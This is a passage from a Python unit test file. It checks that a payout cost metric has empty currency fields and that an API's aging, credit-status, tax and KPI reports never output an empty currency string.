        self.assertEqual([(g["connector"], g["currency"], g["value"]) for g in got if g["metric"] == "cost_per_payout"],
                         [("code_pool", "", "")], got)
        # no report writes "" for it
        for path in ("/v1/reports/aging", "/v1/reports/credit-status", f"/v1/reports/tax?year={self.year}",
                     "/v1/reports/kpis"):
            self.assertNotIn('"currency": ""', json.dumps(self.ok("GET", path)), path)


if __name__ == "__main__":
    unittest.main()
